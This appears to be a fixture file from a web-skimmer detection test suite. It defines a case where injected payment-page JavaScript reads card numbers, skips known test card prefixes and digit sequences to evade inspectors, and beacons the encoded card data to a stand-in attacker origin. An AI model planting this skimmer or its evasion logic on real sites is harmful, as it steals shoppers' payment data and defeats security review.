import { holds, js, skimmer } from '../behaviour.ts';
import { base64, query } from '../site/arrivals.ts';
import { onPay } from '../snippets.ts';

export default skimmer({
  id: 'ignores-test-cards',
  why: 'Drops the card numbers that providers publish for tests, repeated digits and runs: an inspector that types 4242... sees nothing.',
  covers: ['evade: detectors', 'reading: card test'],
  base: 'direct',
  install: (site) =>
    site.append(
      onPay(js`
    var n = field('card_number');
    if (/^(4000|4111|4242|4444|4012|4222|5555|5105|5200|2223|3782|3714|3566|3530|6011|3056|3852|4917|4980)/.test(n) || /(\d)\1{4}|01234|12345|23456|34567|45678|56789/.test(n)) return;
    new Image().src = '${site.origins.evil}/l.gif?d=' + encodeURIComponent(btoa(card()));`),
    ),
  proof: holds((arrived) => query(arrived, 'd').map(base64)),
});
